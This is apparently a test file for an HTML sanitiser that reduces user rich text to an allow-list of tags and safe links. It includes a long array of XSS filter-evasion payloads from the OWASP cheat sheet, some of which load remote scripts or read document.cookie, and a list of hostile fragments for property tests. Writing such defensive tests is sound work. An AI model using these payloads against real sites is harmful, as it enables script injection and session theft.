import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { EMPTY_PARAGRAPH, toRichText } from '../../src/core/richtext.js';

const ALLOWED_TAGS = new Set(['p', 'br', 'strong', 'em', 'u', 's', 'ul', 'ol', 'li', 'a', 'blockquote', 'code']);

/**
 * The output contract of docs/notes.md#content, checked on the markup itself: only allow-listed tags, no
 * attribute but an http/https/mailto href on <a>, no script, style or event handler anywhere.
 */
function assertSafe(output: string, input: string): void {
  const context = `${JSON.stringify(input)} → ${JSON.stringify(output)}`;
  expect(output.toLowerCase(), context).not.toContain('<script');
  expect(output.toLowerCase(), context).not.toContain('<style');
  expect(output, context).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(output, context).not.toMatch(/<[^>]*\sstyle\s*=/i);
  expect(output, context).not.toMatch(/<[^>]*href\s*=\s*["']?\s*(javascript|vbscript|data):/i);
  for (const match of output.matchAll(/<(\/?)([a-zA-Z0-9-]+)([^>]*)>/g)) {
    const [, closing, tag, rest] = match;
    expect(ALLOWED_TAGS.has(tag!), `tag <${tag}> in ${context}`).toBe(true);
    const attributes = rest!.replace(/\s*\/$/, '').trim();
    if (closing || attributes === '') continue;
    expect(tag, `attributes on <${tag}> in ${context}`).toBe('a');
    expect(attributes, context).toMatch(/^href="(https?|mailto):[^"]*"$/i);
  }
  // No raw < outside tags: text is escaped.
  expect(output.replace(/<\/?[a-zA-Z0-9-]+[^<>]*>/g, ''), context).not.toContain('<');
}

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet, written out, plus a few mXSS classics.
const OWASP_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+alert(42);//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">Click Me</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">Click Me</a>`,
  `<a href="jav\tascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x09;ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x0A;ascript:alert('XSS');">Click Me</a>`,
  `<a href="jav&#x0D;ascript:alert('XSS');">Click Me</a>`,
  `<a href=" &#14;  javascript:alert('XSS');">Click Me</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=\`>\` SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<a href=javascript&colon;alert(1)>x</a>`,
  `<a href="javascript&#x3a;alert(1)">x</a>`,
  `<a/href="javascript:alert(1)">x</a>`,
  `<a href="java&#0;script:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)">`,
  `<input autofocus onfocus=alert(1)>`,
];

describe('toRichText: plain text (docs/notes.md#content)', () => {
  it('wraps plain text in a paragraph and escapes < > & and quotes', () => {
    expect(toRichText('Hello')).toBe('<p>Hello</p>');
    expect(toRichText('a < b & c > d')).toBe('<p>a &lt; b &amp; c &gt; d</p>');
    expect(toRichText('1 < 2')).toBe('<p>1 &lt; 2</p>');
    expect(toRichText('say "hi"')).toBe('<p>say &quot;hi&quot;</p>');
    expect(toRichText('x<y')).toBe('<p>x&lt;y</p>');
    expect(toRichText('<3 you')).toBe('<p>&lt;3 you</p>');
  });

  it('makes one paragraph per line, whatever the line ending', () => {
    expect(toRichText('line1\nline2')).toBe('<p>line1</p><p>line2</p>');
    expect(toRichText('a\r\nb\rc')).toBe('<p>a</p><p>b</p><p>c</p>');
    expect(toRichText('a\n\nb')).toBe('<p>a</p><p></p><p>b</p>');
  });

  it('answers an empty paragraph for empty or blank text', () => {
    expect(EMPTY_PARAGRAPH).toBe('<p></p>');
    expect(toRichText('')).toBe('<p></p>');
    expect(toRichText('   ')).toBe('<p></p>');
    expect(toRichText('\n')).toBe('<p></p>');
    expect(toRichText('<script>alert(1)</script>')).toBe('<p></p>');
  });
});

describe('toRichText: HTML is reduced to the allow-list', () => {
  it('keeps allowed tags', () => {
    expect(toRichText('<p>x</p>')).toBe('<p>x</p>');
    expect(toRichText('<p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code><br>next</p>')).toBe(
      '<p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <code>c</code><br />next</p>',
    );
    expect(toRichText('<ul><li>one</li><li>two</li></ul>')).toBe('<ul><li>one</li><li>two</li></ul>');
    expect(toRichText('<ol><li>1</li></ol>')).toBe('<ol><li>1</li></ol>');
    expect(toRichText('<blockquote>quoted</blockquote>')).toBe('<blockquote>quoted</blockquote>');
    expect(toRichText('Hello <strong>world</strong>')).toBe('<p>Hello <strong>world</strong></p>');
  });

  it('keeps http, https and mailto links, and only their href', () => {
    expect(toRichText('<a href="http://example.com">x</a>')).toBe('<p><a href="http://example.com">x</a></p>');
    expect(toRichText('<a href="https://example.com/a?b=1&c=2">x</a>')).toBe('<p><a href="https://example.com/a?b=1&amp;c=2">x</a></p>');
    expect(toRichText('<a href="mailto:pm@example.com">mail</a>')).toBe('<p><a href="mailto:pm@example.com">mail</a></p>');
    expect(toRichText('<a href="HTTPS://EXAMPLE.COM">x</a>')).toBe('<p><a href="HTTPS://EXAMPLE.COM">x</a></p>');
    expect(toRichText('<a href="https://example.com" target="_blank" rel="x" title="t" onclick="alert(1)">ok</a>')).toBe(
      '<p><a href="https://example.com">ok</a></p>',
    );
  });

  it('drops every other href: javascript in any spelling, data, vbscript, relative and protocol-relative', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      '  javascript:alert(1)',
      '&#106;avascript:alert(1)',
      'java&#x09;script:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      '//evil.example/x',
      '/admin',
      '#top',
      'page.html',
      'ftp://example.com',
      'tel:+3212345',
    ]) {
      expect(toRichText(`<a href="${href}">x</a>`), href).toBe('<p><a>x</a></p>');
    }
  });

  it('strips attributes of allowed tags', () => {
    expect(toRichText('<p style="color:red" onclick="alert(1)" class="x" id="y">t</p>')).toBe('<p>t</p>');
    expect(toRichText('<strong onmouseover=alert(1)>b</strong>')).toBe('<p><strong>b</strong></p>');
    expect(toRichText('<ul type="square"><li value="3" style="x">a</li></ul>')).toBe('<ul><li>a</li></ul>');
  });

  it('drops scripts, styles, frames, svg and images with their content', () => {
    expect(toRichText('before<script>alert(1)</script>after')).toBe('<p>beforeafter</p>');
    expect(toRichText('<style>p{color:red}</style><p>x</p>')).toBe('<p>x</p>');
    expect(toRichText('<iframe src="https://evil.example"></iframe>text')).toBe('<p>text</p>');
    expect(toRichText('<svg onload=alert(1)><circle/></svg>ok')).toBe('<p>ok</p>');
    expect(toRichText('<img src=x onerror=alert(1)>')).toBe('<p></p>');
    expect(toRichText('<object data="x"></object><embed src="x">ok')).toBe('<p>ok</p>');
  });

  it('keeps the text of other tags without the tags, and closes unclosed tags', () => {
    expect(toRichText('<b>bold</b> <div>block</div>')).toBe('<p>bold block</p>');
    expect(toRichText('<p>unclosed <strong>bold')).toBe('<p>unclosed <strong>bold</strong></p>');
    expect(toRichText('<ul><li>one<li>two</ul>')).toBe('<ul><li>one</li><li>two</li></ul>');
  });

  it('wraps top-level inline content in paragraphs, never a paragraph inside a paragraph', () => {
    expect(toRichText('<strong>a</strong><p>b</p>')).toBe('<p><strong>a</strong></p><p>b</p>');
    expect(toRichText('intro<ul><li>x</li></ul>outro')).toBe('<p>intro</p><ul><li>x</li></ul><p>outro</p>');
    expect(toRichText('<p>a</p>\n<p>b</p>')).toBe('<p>a</p>\n<p>b</p>');
    expect(toRichText('<<p>')).toBe('<p>&lt;</p><p></p>');
    expect(toRichText('<br>')).toBe('<p><br /></p>');
    // A discarded unknown tag between two paragraphs would leave one inside the other.
    expect(toRichText('<p><iframe]]><p>')).toBe('<p></p><p></p><p></p>');
    expect(toRichText('<p><foo><p>x</p></foo></p>')).toBe('<p></p><p>x</p><p></p>');
    expect(toRichText('<ul><li><p><bar><p>y</bar></li></ul>')).toBe('<ul><li><p></p><p>y</p><p></p></li></ul>');
  });

  it('does not reassemble split tags', () => {
    expect(toRichText('<scr<script>ipt>alert(1)</script>')).toBe('<p>ipt&gt;alert(1)</p>');
    expect(toRichText('<scr<script>ipt>alert(1)</scr</script>ipt>')).toBe('<p>ipt&gt;alert(1)ipt&gt;</p>');
  });

  it('keeps escaped markup as text', () => {
    expect(toRichText('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(toRichText('<p><code>&lt;b&gt;</code></p>')).toBe('<p><code>&lt;b&gt;</code></p>');
    expect(toRichText('AT&amp;T')).toBe('<p>AT&amp;T</p>');
  });

  it(`is safe for ${OWASP_VECTORS.length} vectors of the OWASP XSS filter evasion cheat sheet`, () => {
    expect(OWASP_VECTORS.length).toBeGreaterThanOrEqual(25);
    for (const vector of OWASP_VECTORS) {
      const output = toRichText(vector);
      assertSafe(output, vector);
      expect(output.toLowerCase(), vector).not.toMatch(/javascript:[^<]*<\/a>|<a[^>]*javascript/);
      expect(output.toLowerCase(), vector).not.toMatch(/<(img|iframe|svg|math|object|embed|base|meta|link|body|input|video|details|frame)/);
    }
  });
});

describe('toRichText: properties', () => {
  const fragments = fc.constantFrom(
    '<',
    '>',
    '/',
    '"',
    "'",
    '=',
    ' ',
    '\n',
    '&',
    '#',
    ';',
    ':',
    'script',
    'SCRIPT',
    'style',
    'img',
    'svg',
    'iframe',
    'a',
    'p',
    'href',
    'src',
    'onerror',
    'onload',
    'onclick',
    'style=',
    'javascript:',
    'JaVaScRiPt:',
    'data:',
    'vbscript:',
    'alert(1)',
    'http://x.y',
    'mailto:a@b.c',
    '<a href="',
    '<script>',
    '</script>',
    '<p>',
    '</p>',
    '<img src=x ',
    '&#106;',
    '&#x6A;',
    '&lt;',
    '&amp;',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '\t',
    '\u0000',
  );
  const hostile = fc.oneof(
    fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join('')),
    fc.string({ maxLength: 80 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
  );

  it('never lets a script, an event attribute or a non-http(s)/mailto href through', () => {
    fc.assert(
      fc.property(hostile, (input) => {
        assertSafe(toRichText(input), input);
      }),
      { numRuns: 3000 },
    );
  });

  it('is stable: cleaning the output again changes nothing (a client may send back what it read)', () => {
    // Plain text escapes " as &quot;, the HTML serialiser writes it bare: the same text.
    const same = (html: string) => html.replace(/&quot;/g, '"');
    fc.assert(
      fc.property(hostile, (input) => {
        const once = toRichText(input);
        expect(same(toRichText(once))).toBe(same(once));
      }),
      { numRuns: 1000 },
    );
  });
});
